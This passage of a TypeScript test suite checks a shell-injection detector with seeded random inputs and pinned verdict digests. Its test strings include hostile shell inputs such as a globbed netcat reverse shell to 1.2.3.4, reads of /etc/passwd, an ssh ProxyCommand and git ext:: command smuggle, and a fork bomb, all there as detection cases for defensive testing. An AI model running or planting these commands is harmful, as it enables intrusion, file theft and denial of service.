// counts were computed on the code before the change (7c28b55). The session's differential (400 k
// values, detector verdicts and mayFind's answer in every mode) caught a plant of each new test.
// ---------------------------------------------------------------------------------------------------
t.test('mayFind short runs and call-operator reads: verdicts on a seeded table are those of the code before', (t) => {
  const r = prng(1703);
  const pick = <T>(a: readonly T[]): T => a[Math.floor(r() * a.length)] as T;
  const RUN = [...'abcdefghijklmnopqrstuvwxyzABCDIXZ0123456789_'];
  const NAMES = ['nc', 'ls', 'cc', '7z', 'xz', 'sh', 'id', 'ps', 'cp', 'rm', 'cd', 'ex', 'at', 'sc', 'ip', 'su', 'do', 'md', 'rd', 'gi', 'ID', 'Ls', 'w3m', 'apt', 'iex', 'whoami', 'x'];
  const PUNCT = [...'\'"`\\()[]{};:|&$%#@!*+-=<>/?.,~^_ \t'];
  const BITS = ['\\i-d(', '\\c-d ', 'x;\\w-h-o ', '\\x(', '\\xy(', '\\i\\d(', 'i\\d(', '\\w\\h\\o\\a\\m\\i ', '& (', '&(', '. (', '.(', "'.'(", "'&'(", '"&" (', ')  {', ') {', '){', '&{', "&{'", '{x}', "'i'd", "'a'b'c", "1'2'3", "'_'_'_'", 'c`a`t', 'i`d', "-('\\0", "`\\'(", 'x:/&0', 'a: b&', '\\x(', "('ie'+'x')", ':(){ :|:& };:'];
  const gen = (): string => {
    let s = '';
    const parts = 1 + Math.floor(r() * 8);
    for (let k = 0; k < parts; k++) {
      const q = r();
      if (q < 0.3) s += pick(RUN) + (r() < 0.6 ? pick(RUN) : '');
      else if (q < 0.45) s += pick(NAMES);
      else if (q < 0.75) s += pick(PUNCT);
      else s += pick(BITS);
    }
    if (r() < 0.2) s = s.repeat(2 + Math.floor(r() * 8));
    if (r() < 0.3) s = s.replace(/['"]/g, '');
    return s;
  };
  // Session 21: 7 values ending in a lone `do` after a separator (`?rf2;do`, `do;do;do;do;do;`) went
  // from high to medium: a reserved word alone runs nothing (QUIET_ALONE); no other verdict changed.
  t.same(pinnedTable(gen), { findings: 2521, high: 2303, digest: '9328c65' });
  // The bench's units: nothing found.
  for (const u of ['\\x(', 'a: b&', "`\\'(", "-('\\0", 'x:/&0', "&{'", "'x", "'a"]) t.equal(detectShellInjection(u.repeat(4000)), undefined, JSON.stringify(u));
  t.end();
});

// Quotes with a glob (session 17): mayFind's last test, `quotes && glob`, stands for a glob in a word
// whose norm starts with `/` (the glob-path rule, classifyArg), which quotes hide from its word
// tracking; it now also needs a `/` in the value. Values of quotes, globs, blanks, separators,
// command names and glob paths, half of them with every `/` removed; digest and counts computed on
// the code before the change (7c28b55). Dropping the test altogether changes 162 verdicts of 200 k in
// the session's differential (`"/???/??t=!`); the change itself none. Session 23 (red team round 6):
// bash's `NAME+=` append assignment is read as one, which moves 4 verdicts (2 values, with and without
// the mask), each a command name glued to `+=`: `nc+="](??????t`, `nc+=\`?}#` (medium -> none; bash
// assigns the variable `nc`, dash looks for a program named `nc+=…`: nc runs in neither).
t.test('quotes with a glob and no slash: verdicts on a seeded table are those of the code before', (t) => {
  const r = prng(1704);
  const pick = <T>(a: readonly T[]): T => a[Math.floor(r() * a.length)] as T;
  const P = ["'", '"', '*', '?', '[', ']', ' ', '/', '-', ';', '|', '&', '(', ')', '.', ':', ',', '=', '!', '\\', '`', '{', '}', '\t', '+', '~', '#'];
  const W = ['id', 'cat', 'ls', 'whoami', 'bin', 'etc', 'passwd', 'sh', 'c?t', 'wh?ami', '/???/??t', '/b?n/sh', '/e*c/p*d', '???', 'x', 'a', 'w', 'usr', 'dev', 'tmp', 'nc', '"/"??', "'/'*", 'cd', 'sc', '[a-z]', '*', 'echo', 'if', 'for', 'exist', 'system', 'python3', 'w"h"o', "c'a't", 'Where', 'who', "it's", '100%'];
  const gen = (): string => {
    let s = '';
    const parts = 1 + Math.floor(r() * 7);
    for (let k = 0; k < parts; k++) s += r() < 0.45 ? pick(W) : pick(P) + (r() < 0.5 ? pick(P) : '');
    if (r() < 0.5) s = s.replace(/\//g, '');
    if (r() < 0.1) s = s.repeat(2 + Math.floor(r() * 5));
    return s;
  };
  t.same(pinnedTable(gen), { findings: 1473, high: 1120, digest: '4a2985b5' });
  for (const u of ['"[', '?"-', '[`"', '".-*`']) t.equal(detectShellInjection(u.repeat(4000)), undefined, JSON.stringify(u));
  t.end();
});

/**
 * Verdicts over 20,000 generated values, with and without the mask: counts and an FNV-1a digest, to
 * pin against what the build before a speed change gave (a fast path that changes a verdict fails).
 */
function pinnedTable(gen: () => string): { findings: number; high: number; digest: string } {
  let h = 0x811c9dc5;
  const add = (x: string): void => {
    for (let j = 0; j < x.length; j++) h = Math.imul(h ^ x.charCodeAt(j), 0x01000193);
  };
  let findings = 0;
  let high = 0;
  for (let i = 0; i < 20000; i++) {
    const v = gen();
    const a = detectShellInjection(v);
    const b = detectShellInjection(v, charMask(v));
    add(`${i}:${a?.rule ?? '-'}|${a?.confidence ?? '-'}|${b?.rule ?? '-'}|${b?.confidence ?? '-'};`);
    if (a !== undefined) findings++;
    if (a?.confidence === 'high') high++;
  }
  return { findings, high, digest: (h >>> 0).toString(16) };
}

// Session 18 (shell on dense punctuation): mayFind's one-piece run path, the escape and colon reads
// without a second load, the forward `}` search, the fence search, argumentInjection's late mask and
// withoutTags' short `<` search. Both digests are the base build's (2ca00a4): mayFind's answer in
// every mode (bsl none / bare / quoted, tick, pct) on the whole value and on a sub-range, and the
// detector's verdicts with and without the caller's charMask. The pieces hold what mayFind reads
// specially: escapes (`\\x`, `\\n`, `\\033[`, an escaped quote or separator), quote and tick glue
// (`c'a't`, `` i`e`x ``), drives (`C:/`, `c:\\`), `{` with and without `}`, `(` after `&` or `.`, `%`,
// `^`, globs and `/` words. A scratch differential of the base dist against this build (mayFind in
// every mode, withoutTags, argumentInjection and the verdicts, ~170k strings) found no difference,
// and caught the change planted in the `}` search.
const S18_PIECES_A: string[] = ["'", "\"", "`", "\\", "(", ")", "[", "]", "{", "}", ";", ":", "|", "&", "$", "%", "#", "@", "!", "*", "+", "-", "=", "<", ">", "/", "?", ".", ",", "~", "^", "_", " ", "0", "a", "x", "\t", "\n", "-('\\0", "a: b&", "\\x(", "`\\'(", "x:/&0", "</a>x", "&{'", "%'\\;", "\\n", "\\r", "\\033[", "\\;", "\\&", "\\'", "c\\at", "c'a't", "w\"h\"o", "i`e`x", "`id`", "` `", "```", "id", "whoami", "cat", "ls", "sh", "bin", "exist", "python3", "apt-get", "C:/", "c:\\", "X:/a", "/etc/passwd", "/??t", "&(", ".(", " & ('i'+'ex')", "{ls,-la}", "() {", ") {", "${IFS}", "$(", "%COMSPEC:~-7,3%", "^w^h", "DownloadString", "Down\\loadString", "<a href=\"x\">", "</b>", "<br/>", "-oProxyCommand=", "ext::", "--upload-pack=", "-c ", "e", "Tom & Jerry", "salt; pepper"];
// Glob words in command position (isGlobSysPath's length test, isGlobCommandName's early return).
const S18_PIECES_C: string[] = ["/", "?", "*", "[", "]", "|", ";", "&", " ", "b", "i", "n", "u", "s", "r", "e", "t", "c", "a", "x", "6", "4", "o", "[bs]", "[!a]", "l", "/??", "/???/", "c?t", "/et?/pass??", "who?mi", "/*/", "n?at", "'", "\"", "|/?", ";/?;", "*;/", ";+/*"];
const S18_PIECES_B: string[] = ["'", "\"", "`", "\\", "(", ")", "[", "{", ";", ":", "|", "&", "!", "*", "+", "-", "=", "/", "?", ".", ",", "~", "_", " ", "0", "1", "a", "x", "b", "-('\\0", "a: b&", "\\x(", "`\\'(", "x:/&0", "&{'", "\\;", "\\'", "\\0", "c\\at", "c'a't", "i`e`x", "C:/", "X:/a", "&(", ".(", "ls", "id", "e", "'x'", "ab", "a_0"];

function scanPin(pieces: readonly string[]): { mayFind: string; trues: number; verdicts: string; findings: number } {
  const { mayFind, BSL_NONE, BSL_BARE, BSL_QUOTED } = SCAN_FOR_TEST;
  const table = verdictTable(1818, pieces, 4000);
  const keys: string[] = [];
  let trues = 0;
  for (const s of table) {
    const n = s.length;
    const a = Math.floor(n / 3);
    const b = n - Math.floor(n / 4);
    for (const bsl of [BSL_NONE, BSL_BARE, BSL_QUOTED]) {
      for (const tick of [false, true]) {
        for (const pct of [false, true]) {
          const x = mayFind(s, 0, n, bsl, tick, pct);
          const y = mayFind(s, a, b, bsl, tick, pct);
          if (x) trues++;
          keys.push(x ? '1' : '0', y ? '1' : '0');
        }
      }
    }
  }
  const vk: string[] = [];
  let findings = 0;
  for (const s of table) {
    const d = detectShellInjection(s);
    if (d !== undefined) findings++;
    vk.push(verdictKey(d), verdictKey(detectShellInjection(s, charMask(s))));
  }
  return { mayFind: verdictDigest(keys), trues, verdicts: verdictDigest(vk), findings };
}

t.test('dense punctuation: mayFind and verdicts pinned on seeded tables (session 18 fast paths)', async (t) => {
  // Verdicts 9da67339 / 1604 findings at 2ca00a4; `=` in the argument-injection gate added 7, each
  // a value that starts with an exec option and `=` (`--upload-pack=e`, `-oProxyCommand=/!`), with
  // and without the mask: mayFind is unchanged.
  t.same(scanPin(S18_PIECES_A), { mayFind: '8aca249b', trues: 44943, verdicts: '75045045', findings: 1611 });
  // (Session 23: `…|ls+=a_0-(…` high -> none, with and without the mask: bash's append assignment to
  // the variable `ls`, no command run; verdicts 69dc41e1 / 365 findings before.)
  t.same(scanPin(S18_PIECES_B), { mayFind: '7f96b3dd', trues: 39304, verdicts: 'a76f6c1d', findings: 364 });
  t.same(scanPin(S18_PIECES_C), { mayFind: 'c8f751dd', trues: 34860, verdicts: '5ba4c749', findings: 650 });
  for (const w of ['/???/c?t /et?/pass??', '|/bi?/c?t /etc/passwd', ';/???/who?mi', ';/*/n?at -e sh 1.2.3.4 4444']) {
    t.equal(detectShellInjection(w)?.confidence, 'high', w);
  }
  // The session's shapes stay clean, and what each fast path hands on still answers.
  for (const u of ["-('\\0", 'a: b&', '\\x(', "`\\'(", 'x:/&0', '</a>x', "&{'"]) t.equal(detectShellInjection(u.repeat(13108)), undefined, JSON.stringify(u));
  // (The base build's verdicts, checked against it.)
  t.equal(SCAN_FOR_TEST.mayFind("&{'".repeat(50) + '}', 0, 151, SCAN_FOR_TEST.BSL_QUOTED, true, false), true, 'a `}` after a `{` may brace-expand');
  t.equal(SCAN_FOR_TEST.mayFind("}&{'".repeat(50), 0, 200, SCAN_FOR_TEST.BSL_QUOTED, true, false), true, 'a `}` after the first `{`');
  t.equal(SCAN_FOR_TEST.mayFind("}&{'", 0, 3, SCAN_FOR_TEST.BSL_QUOTED, true, false), false, 'only a `}` before it');
  t.equal(detectShellInjection('-('.repeat(100) + ';id')?.confidence, 'high');
  t.equal(detectShellInjection('a: b&'.repeat(100) + 'whoami')?.confidence, 'high');
  t.equal(detectShellInjection('\\x('.repeat(100) + ';w\\hoami')?.rule, 'shell.obfuscated-command');
  t.equal(detectShellInjection('\\x('.repeat(100) + ' $(id)')?.confidence, 'high');
  t.equal(detectShellInjection('x:/&0'.repeat(100) + '&cat /etc/passwd')?.confidence, 'high');
  t.equal(detectShellInjection('</a>x'.repeat(100) + '<b>;cat /etc/passwd</b>')?.confidence, 'high');
  t.equal(detectShellInjection("`\\'(".repeat(100) + '`id`')?.rule, 'shell.substitution');
  t.equal(detectShellInjection('-oProxyCommand=sh -c id')?.confidence, 'high');
  t.equal(detectShellInjection('ext::sh -c touch% /tmp/pwned')?.confidence, 'high');
  t.end();
});

t.test('hasFence is indexOf of three backticks, at any density', async (t) => {
  const { hasFence } = SCAN_FOR_TEST;
  let bad = 0;
  for (let len = 0; len <= 13; len++) {
    for (let b = 0; b < 1 << len; b++) {
      let s = '';
      for (let k = 0; k < len; k++) s += (b >> k) & 1 ? '`' : 'x';
      if (hasFence(s) !== s.includes('```')) bad++;
    }
  }
  const r = prng(1819);
  for (let i = 0; i < 20000; i++) {
    let s = '';
    const p = r();
    const len = Math.floor(r() * 80);
    for (let k = 0; k < len; k++) s += r() < p ? '`' : "ab\\' ("[Math.floor(r() * 6)]!;
    if (hasFence(s) !== s.includes('```')) bad++;
  }
  t.equal(bad, 0);
  t.end();
});

t.test('repeated periods (`;x$a$`, `;x$$`) skipped once the state repeats: same verdicts as token by token', async (t) => {
  // The reference: SHELL_PERIODS_FOR_TEST.off reads every period as tokens. Seeded values: a
  // separator-and-word period repeated (the words of the fast path: letters, digits, `_`, `$`
  // names, special parameters, literal dollars; command names in and around them; `$IFS`), with
  // prefixes and suffixes of shell syntax, quotes, comments, SQL words and dollar quotes, a piece
  // planted inside the run, and partial last copies. With and without the engine's mask.
  const quiet = ['$$', '$a$', '$tag$', '$', ';', ';', '|', '&', 'x', 'a', 'xy', '1', '$1', '$x', '_', ' ', 'foo', "'", '"', '#', '(', ')', 'I', 'FS', '=', '-', '/', '\n', '$$$', 'Z', '$Z$'];
  const loud = ['id', 'ls', 'cat', 'whoami', 'sh', 'select', 'sleep', 'or', '$IFS', '$0', '$SHELL', 'a=', '$(', '{', '}', '`', '\\', '$_GET', 'curl', '$env:', 'c$@at', 'i$x$d', '$u', ':', '%', '<', '>', '-c', '/etc/passwd', '--', 'sudo', 'exec', 'system'];
  const words = ['x', 'x$a$', 'x$$', '$a', 'a$x', 'q$1', '$', '$$$', 'foo$bar$', 'n$$', '_$_', '1', '$a$', 'I$FS', 'x$IFS', 'i$a$d', 'w$1ho', 'c$a$t', '$u', '$0', '$SHELL', 'id', 'sh', 'i$$d', 'who$a$ami', 'sudo', 'exec', 'nc'];
  const r = prng(2020);
  const pick = (a: readonly string[]): string => a[Math.floor(r() * a.length)]!;
  const piece = (): string => pick(r() < 0.8 ? quiet : loud);
  let diffs = 0;
  let found = 0;
  let first = '';
  for (let i = 0; i < 6000; i++) {
    const per = pick([';', ';', ';', '|', '&', ';;', '&&', '; ', '\n']) + pick(words) + (r() < 0.2 ? pick(words) : '');
    let mid = per.repeat(1 + Math.floor(r() * (r() < 0.3 ? 60 : 6)));
    if (r() < 0.3) {
      const k = Math.floor(r() * mid.length);
      mid = mid.slice(0, k) + piece() + mid.slice(k);
    }
    if (r() < 0.2) mid += per.slice(0, Math.floor(r() * per.length));
    let pre = '';
    let suf = '';
    if (r() < 0.6) for (let k = Math.floor(r() * 4); k >= 0; k--) pre += piece();
    if (r() < 0.6) for (let k = Math.floor(r() * 4); k >= 0; k--) suf += piece();
    const s = pre + mid + suf;
    for (const mask of [undefined, charMask(s)]) {
      SHELL_PERIODS_FOR_TEST.off = true;
      const want = verdictKey(detectShellInjection(s, mask));
      SHELL_PERIODS_FOR_TEST.off = false;
      const got = verdictKey(detectShellInjection(s, mask));
      if (want !== '-;') found++;
      if (want !== got && diffs++ === 0) first = `${JSON.stringify(s)}: ${want} vs ${got}`;
    }
  }
  t.equal(diffs, 0, first);
  t.ok(found > 1000 && found < 9000, `findings on both sides of the table (${found} of 12000)`);
  // The shapes themselves, and an attack after a long run of them.
  t.equal(detectShellInjection('$a$;x'.repeat(5000)), undefined);
  t.equal(detectShellInjection('$$;x'.repeat(5000)), undefined);
  t.equal(detectShellInjection('$$;x'.repeat(5000) + ';cat /etc/passwd')?.confidence, 'high');
  t.equal(detectShellInjection('$a$;x'.repeat(5000) + '$a$;id')?.confidence, 'high');
  t.equal(detectShellInjection(';x$$'.repeat(500) + ';c$1at')?.confidence, 'high');
  t.equal(detectShellInjection(';c$1at'.repeat(500))?.confidence, 'high');
  t.end();
});
